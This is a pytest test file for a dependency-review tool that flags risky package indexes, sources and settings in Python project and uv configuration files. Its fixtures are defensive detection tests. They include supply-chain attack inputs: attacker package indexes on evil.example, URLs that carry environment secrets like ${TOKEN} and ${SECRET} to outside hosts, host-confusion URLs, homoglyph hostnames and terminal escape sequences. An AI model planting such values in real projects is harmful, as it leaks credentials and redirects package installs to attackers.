from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from resolver.errors import PkgviewError
from resolver.fetch.addresses import EVERYBODYS, belongs, canonical, file_places
from resolver.project import trust
from resolver.project.phrase import LONGEST
from resolver.python.choices.own import own_choices, python_choices
from resolver.python.choices.phrases import (
    index_choice,
    index_names,
    variable_choice,
)
from resolver.python.environment import for_project
from resolver.python.project import find_project, project_of_script

if TYPE_CHECKING:
    from pathlib import Path

REPLACED = frozenset({"https://mine.example/team/simple/", "https://mine.example/team/corp/"})
MINE = REPLACED | {EVERYBODYS}
PYPI = "https://files.pythonhosted.org/packages/a"


def chosen(root: Path, files: dict[str, str], own: frozenset[str] = MINE) -> set[str]:
    for name, text in files.items():
        path = root / "clone" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    found = find_project(root / "clone")
    assert found is not None
    return set(own_choices(found, own, {"CORP": "https://mine.example/team/corp"}))


def pyproject(more: str = "", dependencies: str = '"requests>=2"') -> str:
    return f'[project]\nname = "it"\nversion = "1"\ndependencies = [{dependencies}]\n{more}'


@pytest.mark.parametrize(
    "files",
    [
        {"requirements.txt": "requests\nFlask[async, dotenv] >=2.0,!=2.1 ; python_version < '3.9'\n"
         "# http://comment\n--pre\n--require-hashes\n"
         "six==1.* --hash=sha256:00\\\n  --hash=sha256:11\n"
         "-r more.txt\n-c ./more.txt\na (>1)\n--no-binary :all:\nx===1.0+local\n",
         "setup.py": "print('not read as one')\n", ".python-version": "3.12\n",
         "more.txt": "numpy\n"},
        {"requirements.txt": "-i https://mine.example/team/simple\nalpha\n"
         "--extra-index-url=https://pypi.org/simple/\n"},
        {"pyproject.toml": pyproject(
            '[project.optional-dependencies]\nx = ["rich ~= 13"]\n[dependency-groups]\n'
            'dev = ["pytest", {include-group = "x"}]\n[build-system]\nrequires = ["evil @ x:"]\n'
            '[tool.uv]\ndev-dependencies = ["ruff"]\nexclude-newer = "2026-01-01"\n'
            '[[tool.uv.index]]\nname = "m"\nurl = "https://MINE.example/team/simple"\n'
            '[tool.uv.workspace]\nmembers = ["b"]\n'
        ), ".python-version": "3.12\n"},
        {"pyproject.toml": pyproject(), "uv.lock": "version = 1\n[[package]]\nname = 'requests'\n"
         "source = { registry = 'https://pypi.org/simple' }\n"
         f"sdist = {{ url = '{PYPI}.tar.gz' }}\nwheels = [{{ url = '{PYPI}.whl' }}]\n"
         "[[package]]\nname = 'it'\nsource = { editable = '.' }\n"},
        {"pylock.toml": "[[packages]]\nname = 'a'\nindex = 'http://any'\n"
         f"wheels = [{{ url = '{PYPI}.whl' }}]\n"
         "[[packages]]\nname = 'it'\ndirectory = { path = '.', editable = true }\n"},
        {"pyproject.toml": "[project", "requirements.txt": "requests"},
        {"requirements.txt": "-e .\n-e lib[x] ; python_version > '3'\n./lib\n--editable=./lib\n",
         "lib/pyproject.toml": pyproject()},
        {"pyproject.toml": pyproject(
            '[tool.uv.sources]\nlib = { path = "packages/lib", editable = true }\n'
            'Two = { workspace = true }\n[tool.uv.workspace]\nmembers = ["packages/*"]\n'
        ), "packages/lib/pyproject.toml": pyproject(), "packages/b/pyproject.toml":
         pyproject().replace('"it"', '"two"')},
        {"pyproject.toml": pyproject(), "uv.lock": "version = 1\n[[package]]\nname = 'lib'\n"
         "source = { editable = 'lib' }\n", "lib/pyproject.toml": pyproject()},
        {"pylock.toml": "[[packages]]\nname = 'a'\ndirectory = { path = 'lib' }\n",
         "lib/setup.py": ""},
    ],
)  # fmt: skip
def test_what_is_no_choice(tmp_path: Path, files: dict[str, str]) -> None:
    if files.get("pyproject.toml") == "[project":
        (tmp_path / "clone").mkdir()
        files = {"requirements.txt": "requests"}
    assert chosen(tmp_path, files) == set()


@pytest.mark.parametrize(
    ("line", "phrase"),
    [
        ("-i https://evil.example/simple", "use the index https://evil.example/simple"),
        ("--index-url=https://u:p@evil.example/simple", "use the index https://evil.example/simple"),
        ("-ihttps://evil.example/simple", "use the index https://evil.example/simple"),
        ("--extra-index-url https://mine.example/other", "use the index https://mine.example/other"),
        ("-i https://mine.example/team/b/", "use the index https://mine.example/team/b/"),
        ("-i https://mine.example/team/simple/b", "use the index https://mine.example/team/simple/b"),
        ("-i http://mine.example/team/simple", "use the index http://mine.example/team/simple"),
        ("-i https://mine.example/team/../evil", "use the index https://mine.example/team/../evil"),
        ("-i https://mine.example.evil/team/", "use the index https://mine.example.evil/team/"),
        ("-f ./wheels", "use the option -f ./wheels"),
        ("--find-links=https://x", "use the option --find-links=https://x"),
        ("--trusted-host x", "use the option --trusted-host x"),
        ("-e ..", "use the option -e .."),
        ("-e ./out", "use the option -e ./out"),
        ("--unheard-of", "use the option --unheard-of"),
        ("-r https://x/y.txt", "read requirements from https://x/y.txt"),
        ("flask=oops", "use what is no requirement, flask=oops"),
        ("./a", "take a package by the address or path ./a"),
        ("a-1.0-py3-none-any.whl", "take a package by the address or path a-1.0-py3-none-any.whl"),
        ("sub/a.zip", "take a package by the address or path sub/a.zip"),
        ("a @ https://u:p@x/a.whl", "take a package by the address or path a @ https://x/a.whl"),
        ("a@git+ssh://git@x/y ; python_version > '3'",
         "take a package by the address or path a@git+ssh://x/y ; python_version > '3'"),
        ("git+https://x/y#egg=a", "take a package by the address or path git+https://x/y#egg=a"),
        ("file:///x", "take a package by the address or path file:///x"),
    ],
)  # fmt: skip
def test_lines_of_a_requirements_file(tmp_path: Path, line: str, phrase: str) -> None:
    (tmp_path / "clone").mkdir()
    (tmp_path / "clone/out").symlink_to("/usr")
    assert chosen(tmp_path, {"requirements.txt": f"requests\n{line}\n"}) == {phrase}
    more = {"requirements.txt": "-r sub/more.txt\n", "sub/more.txt": f"{line}\n"}
    assert phrase in chosen(tmp_path, more)


FILES = ("b", "b.txt", "b.txt#x", "b\u2028c.txt")


@pytest.mark.parametrize(
    "files",
    [
        {"requirements.txt": "a\n", "uv.toml": "index=[{url='http://x/',\n}]\n"},
        {"requirements.txt": "a\n", "uv.toml": 'x = "\\x61"\n'},
        {"requirements.txt": "a\n", "../pyproject.toml": "[tool.uv]\nx = {a=1,}\n"},
        {"pyproject.toml": pyproject(), "uv.lock": "version = 1\nx = {a = 1,}\n"},
        *({"requirements.txt": line + "\n", **dict.fromkeys(FILES, "a\n")}
          for line in (
            "--no-index --find-links http://x/", "--require-hashes --find-links http://x/",
            "a==1 --hash=sha256:00 -r http://x/R", "a # c \\\n--extra-index-url http://x",
            "a --hash=sha256:00 --index-url http://x", "-r b.txt#x", "-r b\u2028c.txt", "a\x0b-i http://x",
            "a\x85-i http://x", "a\x1f", "a\r-i http://x",
        )),
        {"requirements.txt": "a\n", "pyproject.toml": '[dependency-groups]\ndev = ["e @ http://x/e.whl"]\n'},
        {"pylock.toml": "[[packages]]\nname = 'a'\n[[packages.wheels]]\n"
         f"url = '{PYPI}.whl'\npath = 'a.whl'\n"},
        # uv's other name for packages, and what a later version may call them.
        *({"pyproject.toml": pyproject(), "uv.lock": f"version = 1\n[[{key}]]\nname = 'a'\n"
           "source = { registry = 'https://evil.example/s' }\nwheels = [{ url = 'http://x/a' }]\n"}
          for key in ("distribution", "file")),
        {"pyproject.toml": pyproject(), "uv.lock": "version = 1\n[[package]]\nname = 'a'\n"
         "zips = [{ url = 'http://x/a' }]\n"},
        *({"requirements.txt": "a\n", "uv.toml": line + "\n"} for line in (
            'index = ["http://x"]', 'index = "http://x"', "override-dependencies = [{a = 1}]",
            'constraint-dependencies = "a"', "[sources]\na = 'http://x'",
            "[sources]\na = {repository = 'http://x'}",
            "[pip]\ngroup = ['sub/pyproject.toml:dev']", "[workspace]\nmembers = ['**']",
        )),
    ],
)  # fmt: skip
def test_what_another_reader_may_understand_is_one(tmp_path: Path, files: dict[str, str]) -> None:
    assert chosen(tmp_path, files)


def test_what_leads_elsewhere_or_never_ends_is_one(tmp_path: Path) -> None:
    (tmp_path / "clone").mkdir()
    (tmp_path / "elsewhere/in").mkdir(parents=True)
    (tmp_path / "elsewhere/b.txt").write_text("a\n")
    (tmp_path / "clone/d").symlink_to("../elsewhere/in")
    assert chosen(tmp_path, {"requirements.txt": "-r d/../b.txt\n", "b.txt": "a\n"})
    assert not chosen(tmp_path, {"requirements.txt": "-r b.txt\n"})
    os.mkfifo(tmp_path / "clone/uv.toml")
    with pytest.raises(PkgviewError, match="no regular file"):
        chosen(tmp_path, {"requirements.txt": "a\n"})


def test_what_source_trees_ask_for(tmp_path: Path) -> None:
    """Also where a tree leads to the next one, and where a workspace has it as a member."""
    place = '[tool.uv.sources]\nb = { path = "../b" }\n'
    evil = pyproject(
        '[tool.uv.sources]\nx = { git = "https://x/${TOKEN}" }\n', '"y @ https://x/y.whl"'
    )
    found = chosen(
        tmp_path,
        {"pyproject.toml": pyproject('[tool.uv.sources]\na = { path = "a" }\n'),
         "a/pyproject.toml": pyproject(place), "b/pyproject.toml": evil},
    )  # fmt: skip
    more = {
        "take x from https://x/${TOKEN}", "take a package by the address or path y @ https://x/y.whl",
        "put the variable TOKEN of your environment into addresses",
    }  # fmt: skip
    assert found == more
    found = chosen(
        tmp_path, {"pyproject.toml": pyproject('[tool.uv.workspace]\nmembers = ["[b]"]\n')}
    )
    assert found == more


def test_a_name_that_is_another_index_s(tmp_path: Path) -> None:
    """It would get that one's password."""
    index = '[[index]]\nname = "{}"\nurl = "{}"\n'
    for name, url, asked in (
        ("corp", "https://mine.example/team/corp/", False),
        ("pypi", "https://pypi.org/simple", False),
        ("Corp", "https://pypi.org/simple", True),
        ("corp", "https://mine.example/team/other", True),
    ):
        files = {"requirements.txt": "a\n", "uv.toml": index.format(name, url)}
        found = chosen(tmp_path, files)
        assert found == ({index_choice(url, name)} if asked else set())
        # Who says yes without looking whose they are says it to that, too.
        project = find_project(tmp_path / "clone")
        assert project is not None
        assert found <= own_choices(project, frozenset())


def test_variables_of_the_environment(tmp_path: Path) -> None:
    files = {"requirements.txt": "-c sub/c.txt\na @ https://x/${PROJECT_ROOT}/${TOKEN}\n",
             "sub/c.txt": "b @ https://${other}/\n"}  # fmt: skip
    found = chosen(tmp_path, files)
    for name in ("TOKEN", "other"):
        assert f"put the variable {name} of your environment into addresses" in found
    assert not any("PROJECT_ROOT of" in one for one in found)


@pytest.mark.parametrize("option", ["-r ", "-c", "--requirement=", "--constraint "])
def test_a_file_that_an_agreed_project_names_asks_again(tmp_path: Path, option: str) -> None:
    """However deep it lies: what it wants is listed, and not given before its user said yes."""
    files = {"requirements.txt": "-r .in/.one.txt\na @ https://x/${GIVEN}\n",
             ".in/.one.txt": f"{option}../.two.txt\n", ".two.txt": "b\n"}  # fmt: skip
    environ = {"GIVEN": "1", "TOKEN": "secret", "PATH": "/bin"}
    agreed = chosen(tmp_path, files)
    project = find_project(tmp_path / "clone")
    assert project is not None
    trust.agree(project, tmp_path / "state", frozenset(agreed))
    assert "TOKEN" not in for_project(environ, frozenset(agreed))
    wanted = frozenset(chosen(tmp_path, {".two.txt": "b @ https://y/${TOKEN}\n"}))
    project = find_project(tmp_path / "clone")
    assert project is not None
    assert project.root / ".two.txt" in project.inputs
    new = trust.not_agreed(project, tmp_path / "state", wanted)
    assert variable_choice("TOKEN") in new
    assert variable_choice("GIVEN") not in new
    assert set(for_project(environ, wanted - new)) == {"GIVEN", "PATH"}
    assert set(for_project(environ, wanted)) == {"GIVEN", "PATH", "TOKEN"}


@pytest.mark.parametrize(
    ("files", "phrases"),
    [
        ({"pyproject.toml": pyproject(dependencies='"a @ https://x/a.whl"')},
         {"take a package by the address or path a @ https://x/a.whl"}),
        ({"pyproject.toml": pyproject('[dependency-groups]\ndev = ["./a"]')},
         {"take a package by the address or path ./a"}),
        ({"pyproject.toml": pyproject('[tool.uv]\noverride-dependencies = ["a @ file:///a"]')},
         {"take a package by the address or path a @ file:///a"}),
        ({"pyproject.toml": pyproject(
            '[[tool.uv.index]]\nname = "corp"\nurl = "https://evil.example"\n'
            '[tool.uv.sources]\nA_b = [{ git = "https://x/y" }, { path = "../p" }]\n'
            'c = { workspace = true }\n'
            '[tool.uv]\nkeyring-provider = "subprocess"\nfind-links = ["w"]\n'
            'extra-index-url = ["https://evil.example/2"]\n'
            '[tool.uv.pip]\nindex-url = "https://evil.example/3"\nallow-insecure-host = ["x"]\n')},
         {'use the index https://evil.example with what your environment has for "corp"',
          "take c from the workspace", "take a-b from https://x/y", "take a-b from ../p",
          'set uv\'s keyring-provider to "subprocess"',
          'set uv\'s find-links to ["w"]', 'set uv\'s allow-insecure-host to ["x"]',
          "use the index https://evil.example/2", "use the index https://evil.example/3"}),
        ({"requirements.txt": "a\n", "uv.toml": 'index-url = "https://evil.example/1"\n'},
         {"use the index https://evil.example/1"}),
        ({"requirements.txt": "a\n", "../uv.toml": 'index-url = "https://evil.example/1"\n'},
         {"use the index https://evil.example/1"}),
        ({"pyproject.toml": pyproject("[tool.uv]\npackage = true\n"), "../pyproject.toml":
          '[tool.uv.sources]\na = { url = "https://x/a.whl" }\n'
          '[tool.uv.workspace]\nmembers = ["*"]'},
         {"take a from https://x/a.whl"}),
        ({"requirements.txt": "a\n", ".python-version": "./bin/python\n"},
         {"run the Python at ./bin/python"}),
        ({"pylock.toml": "[[packages]]\nname = 'a'\nwheels = [{ path = 'w/a.whl' }]\n"
          "[[packages]]\nname = 'b'\nvcs = { url = 'https://u:p@x/y' }\n"
          "[[packages]]\nname = 'c'\ndirectory = { path = '..' }\n"
          "[[packages]]\nname = 'd'\narchive = { url = 'https://x/d.zip' }\n"
          "[[packages]]\nname = 'e'\nsdist = { url = 'http://127.0.0.1:1/e' }\n"
          "[[packages]]\nname = 'f'\nwheels = [{ url = 'https://u@files.pythonhosted.org/f' }]\n"
          "[[packages]]\nname = 'g'\nwheels = [{ url = 'file:///srv/wheels/g.whl' }]\n"},
         {"take a from w/a.whl", "take b from https://x/y", "take c from ..",
          "take d from https://x/d.zip", "fetch packages from http://127.0.0.1:1",
          "fetch packages from https://files.pythonhosted.org",
          "fetch packages from file:///srv/wheels"}),
        ({"pyproject.toml": pyproject(), "uv.lock": "[[package]]\nname = 'a'\n"
          "source = { registry = 'https://evil.example/s' }\nwheels = [{ url = 'https://x/a' }]\n"
          "[[package]]\nname = 'b'\nsource = { git = 'https://x/y?rev=1' }\n"
          "[[package]]\nname = 'c'\nsource = { editable = 'c' }\n"},
         {"use the index https://evil.example/s", "fetch packages from https://x",
          "take b from https://x/y?rev=1", "take c from c"}),
    ],
)  # fmt: skip
def test_what_is_one(tmp_path: Path, files: dict[str, str], phrases: set[str]) -> None:
    assert chosen(tmp_path, files) == phrases


def changed(first: dict[str, str], second: dict[str, str], root: Path) -> set[str]:
    """What is asked about anew, where the first was said yes to."""
    before = chosen(root, first)
    assert before, "there was nothing to ask about"
    return chosen(root, second) - before


@pytest.mark.parametrize("end", ["?", "#", "\\", "/?", "/x/"])
@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", "--extra-index-url {}/simple\n"),
        ("requirements.txt", "-r {}/r.txt\n"),
        ("requirements.txt", "-f {}/links\n"),
        ("requirements.txt", "a @ {}/a.whl\n"),
        ("uv.toml", "index-url = '{}/simple'\n"),
        ("uv.toml", "find-links = ['{}/simple']\n"),
        ("uv.toml", "[sources]\na = {{ git = '{}/a.git' }}\n"),
        ("pylock.toml", "[[packages]]\nname = 'a'\nvcs = {{ url = '{}/a.git' }}\n"),
        ("pylock.toml", "[[packages]]\nname = 'a'\nwheels = [{{ url = '{}/a.whl' }}]\n"),
    ],
)
def test_what_is_behind_a_host_is_no_user(tmp_path: Path, name: str, text: str, end: str) -> None:
    """An address goes to the host before it, and is shown, and agreed to, as that."""
    plain = {"requirements.txt": "b\n"} if name == "uv.toml" else {}
    for good in ("http://good.example", "https://mine.example/team"):
        agreed = plain | {name: text.format(good)}
        evil = text.format(f"http://evil.example{end}@{good.partition('//')[2]}")
        (new,) = chosen(tmp_path, plain | {name: evil}) - chosen(tmp_path, agreed)
        assert "http://evil.example" in new
    # A user and a password lead nowhere, and are nobody's business.
    named = plain | {name: text.format("http://u:p@x@good.example")}
    assert chosen(tmp_path, named) == chosen(
        tmp_path, plain | {name: text.format("http://good.example")}
    )


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ('find-links = ["http://a"]', 'find-links = ["http://b"]'),
        ('pip = {find-links = ["http://a"]}', 'pip = {find-links = ["http://b"]}'),
        ('http-proxy = "http://a"', 'http-proxy = "http://b"'),
        ('https-proxy = "http://a"\nno-proxy = ["a"]',
         'https-proxy = "http://a"\nno-proxy = ["b"]'),
        ('allow-insecure-host = ["a"]', 'allow-insecure-host = ["a", "b"]'),
        ('cache-dir = "a"', 'cache-dir = "b"'),
        ('keyring-provider = "disabled"', 'keyring-provider = "subprocess"'),
        ('cache-keys = [{file = "a"}]', 'cache-keys = [{file = "/b"}]'),
        ('pypy-install-mirror = "http://a"', 'pypy-install-mirror = "http://b"'),
        ('index-strategy = "first-index"', 'index-strategy = "unsafe-best-match"'),
        ('extra-build-dependencies = {a = ["b"]}', 'extra-build-dependencies = {a = ["b @ http://b"]}'),
        ('dependency-metadata = [{name = "a", requires-dist = []}]',
         'dependency-metadata = [{name = "a", requires-dist = ["b @ http://b"]}]'),
        ('constraint-dependencies = "a"', 'constraint-dependencies = "b"'),
        ('index = ["http://a"]', 'index = ["http://b"]'),
        ('index = [{url = "https://pypi.org/simple", new = 1}]',
         'index = [{url = "https://pypi.org/simple", new = 2}]'),
        ("unheard-of = 2026-01-01", "unheard-of = 2026-01-02"),
        ('sources = {a = {git = "http://a"}}', 'sources = {a = {git = "http://a", rev = "b"}}'),
        ('sources = {a = {new = "http://a"}}', 'sources = {a = {new = "http://b"}}'),
        ('x = {a = "a",}', 'x = {a = "b",}'),  # TOML 1.1
    ],
)  # fmt: skip
def test_another_value_of_a_setting_is_another_choice(
    tmp_path: Path, first: str, second: str
) -> None:
    plain = {"requirements.txt": "b\n"}
    assert changed(plain | {"uv.toml": first}, plain | {"uv.toml": second}, tmp_path)


@pytest.mark.parametrize(
    "text",
    ['find-links = ["w"]', '[sources]\na = {path = "../w.whl"}', '[workspace]\nmembers=["../x"]'],
)
def test_a_path_of_another_directory_is_another_choice(tmp_path: Path, text: str) -> None:
    plain = {"requirements.txt": "b\n"}
    assert changed(
        plain | {"../uv.toml": text, "uv.toml": ""}, {"../uv.toml": "", "uv.toml": text}, tmp_path
    )


@pytest.mark.parametrize(
    ("name", "first", "second"),
    [
        ("pylock.toml", "vcs = {url = 'http://a'}", "vcs = {url = 'http://a', commit-id = 'b'}"),
        (
            "pylock.toml",
            "archive = {url = 'http://a'}",
            "archive = {url = 'http://a', path = '../a'}",
        ),
        ("uv.lock", "zips = ['http://a']", "zips = ['http://b']"),
    ],
)  # fmt: skip
def test_another_part_of_a_lock_is_another_choice(
    tmp_path: Path, name: str, first: str, second: str
) -> None:
    head = {"pylock.toml": "[[packages]]", "uv.lock": "version = 1\n[[package]]"}[name]
    plain = {} if name == "pylock.toml" else {"pyproject.toml": pyproject()}
    one, two = (plain | {name: f"{head}\nname = 'a'\n{said}\n"} for said in (first, second))
    assert changed(one, two, tmp_path)


def test_everybodys_index_is_one_for_who_has_replaced_it(tmp_path: Path) -> None:
    """Who uses a private one only does not want packages of the same names from there."""
    lock = f"[[packages]]\nname = 'a'\nwheels = [{{ url = '{PYPI}.whl' }}]\n"
    for name, text, said in (
        ("requirements.txt", "--extra-index-url https://pypi.org/simple\na\n", "use the index"),
        ("uv.toml", "index-url = 'https://pypi.org/simple/'\n", "use the index"),
        ("pylock.toml", lock, "fetch packages from"),
    ):
        files = {"requirements.txt": "a\n", "uv.toml": "", name: text}
        assert not chosen(tmp_path, files)
        (asked,) = chosen(tmp_path, files, REPLACED)
        assert asked.startswith(said)


def test_letters_that_look_like_others_are_spelled_out(tmp_path: Path) -> None:
    for host in ("ev\u0456l.example", "evil\u3164.example"):
        (asked,) = chosen(tmp_path, {"requirements.txt": f"-i http://{host}/simple\n"})
        assert asked.isascii()
        spelled = host.encode("ascii", "backslashreplace").decode()
        (other,) = chosen(tmp_path, {"requirements.txt": f"-i http://{spelled}/simple\n"})
        assert other != asked


@pytest.mark.parametrize("end", ["\u2028", "\x85"])
def test_a_line_of_a_script_ends_for_all_readers_alike(tmp_path: Path, end: str) -> None:
    """Else a table that only we see hides what follows it."""
    script = tmp_path / "script.py"
    script.write_text(
        f'# /// script\n# # a{end}[hidden]\n# dependencies = ["a @ https://x/a.whl"]\n# ///\n'
    )
    found = project_of_script(script)
    assert found is not None
    assert own_choices(found, MINE)


def test_a_script(tmp_path: Path) -> None:
    script = tmp_path / "script.py"
    script.write_text(
        '# /// script\n# dependencies = ["a @ https://x/a.whl", "b"]\n# [tool.uv]\n'
        '# index-url = "https://evil.example/"\n# ///\n'
    )
    found = project_of_script(script)
    assert found is not None
    assert own_choices(found, MINE) == {
        "take a package by the address or path a @ https://x/a.whl",
        "use the index https://evil.example/",
    }
    # So does its lock.
    script.with_name("script.py.lock").write_text(
        "version = 1\n[[package]]\nname = 'b'\nsource = { registry = 'https://y/simple' }\n"
    )
    found = project_of_script(script)
    assert found is not None
    assert found.uv_lock == script.with_name("script.py.lock")
    assert "use the index https://y/simple" in own_choices(found, MINE)


def test_a_script_with_a_lock(tmp_path: Path) -> None:
    """What its lock names counts, what its block names, and what stands around it."""
    script = tmp_path / "script.py"
    script.write_text("# /// script\n# [tool.uv.sources]\n# lib = {path = 'lib'}\n# ///\n")
    (tmp_path / "script.py.lock").write_text(
        "version = 1\n[[package]]\nname = 'a'\nsource = { registry = 'https://evil.example/' }\n"
    )
    (tmp_path / "uv.toml").write_text('https-proxy = "http://evil.example"\n')
    (tmp_path / "lib").mkdir()
    found = project_of_script(script)
    assert found is not None
    assert own_choices(found, MINE) == {
        "take lib from lib",
        "use the index https://evil.example/",
        'set uv\'s https-proxy to "http://evil.example"',
    }


def test_a_phrase_is_fit_for_a_terminal_and_says_all(tmp_path: Path) -> None:
    long = "x" * 500
    first = chosen(tmp_path, {"requirements.txt": f"https://{long}1\n./\x1b[2Jy\n"})
    second = chosen(tmp_path, {"requirements.txt": f"https://{long}2\n"})
    assert len(first | second) == 4  # and that it cannot be read
    assert all(one.isprintable() and len(one) < LONGEST + 30 for one in first | second)


def test_a_python_by_its_path(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(pyproject('[tool.pkgview]\npython = "./bin/python"'))
    found = find_project(tmp_path)
    assert found is not None
    assert python_choices(found) == {"run the Python at ./bin/python"} == own_choices(found, MINE)


def test_names_of_indexes() -> None:
    choices = [index_choice("https://x", "corp"), index_choice("https://y"), "set uv's x"]
    assert index_names(choices) == {"corp"}


@pytest.mark.parametrize(
    ("url", "does"),
    [
        ("https://mine.example/team/a.whl", True),
        ("HTTPS://MINE.example/team/a.whl", True),
        ("https://mine.example/teams/a.whl", False),
        ("http://mine.example/team/a.whl", False),
        ("https://mine.example:444/team/a.whl", False),
        ("https://mine.example@evil.example/team/a.whl", False),
        ("https://u:p@mine.example/team/a.whl", False),
        ("https://mine.example/team/../a.whl", False),
        ("https://mine.example/team/%2E%2e/a.whl", False),
        ("https://mine.example/team/..\\a.whl", False),
        ("https://mine.example/team/x/..%2f..%2fa.whl", False),
        ("https://[", False),
        ("", False),
    ],
)
def test_whether_an_address_is_the_users(url: str, does: bool) -> None:  # noqa: FBT001 - of a table
    assert belongs(url, file_places("https://mine.example/team/simple/")) is does


def test_where_the_files_of_an_index_are() -> None:
    """Others may have a place on the same host, of which the index is not the whole."""
    for index, inside, outside in (
        ("https://host.example/simple", "simple/a packages/a", "a b/simple/a package/a simples/a"),
        ("https://host.example/me/", "me/a me/-/ver_1/a", "you/a a"),
        ("https://host.example/r/me", "r/me/a", "r/you/a r/a"),
        ("https://host.example/r/me/+simple/", "r/me/+f/a r/me/a", "r/a r/you/a packages/a"),
        ("https://host.example", "a b/c", ""),
        ("https://pypi.org/simple", "", "simple/a"),
    ):
        places = file_places(canonical(index))
        for path, does in [(one, True) for one in inside.split()] + [
            (one, False) for one in outside.split()
        ]:
            assert belongs(f"https://host.example/{path}", places) is does, (index, path)
    assert belongs(f"{PYPI}.whl#sha256=00", file_places(EVERYBODYS))
    assert canonical("https://Host.example:443/x") == canonical("https://host.example/x/")
    for odd in (
        "https://h/x?y",
        "https://h/x#y",
        "https://u@h/x",
        "https://h/a/..;/x",
        "file:///x",
    ):
        assert canonical(odd) == ""


def test_what_directories_of_its_own_want_counts(tmp_path: Path) -> None:
    """uv follows them, and those that they name, when it resolves."""
    source = "[tool.uv.sources]\n{} = {{ {} }}\n"
    files = {
        "requirements.txt": "-e ./lib\n",
        "lib/pyproject.toml": pyproject(source.format("two", 'path = "../two"'), '"x @ https://x"'),
        "two/pyproject.toml": pyproject(source.format("g", 'git = "https://g"')),
        "two/uv.toml": 'index-url = "https://${SECRET}@evil.example"\n',
    }
    assert chosen(tmp_path, files) == {
        "take a package by the address or path x @ https://x",
        "take g from https://g",
        "use the index https://evil.example",
    }
    (tmp_path / "clone/requirements.txt").unlink()
    (tmp_path / "beside").mkdir()
    files = {"pyproject.toml": pyproject(source.format("b", 'path = "../beside"'))}
    assert chosen(tmp_path, files) == {"take b from ../beside"}
    files = {"pyproject.toml": pyproject(source.format("two", 'path = "two"'))}
    (tmp_path / "clone/two").chmod(0o777)
    assert "take two from two" in chosen(tmp_path, files)
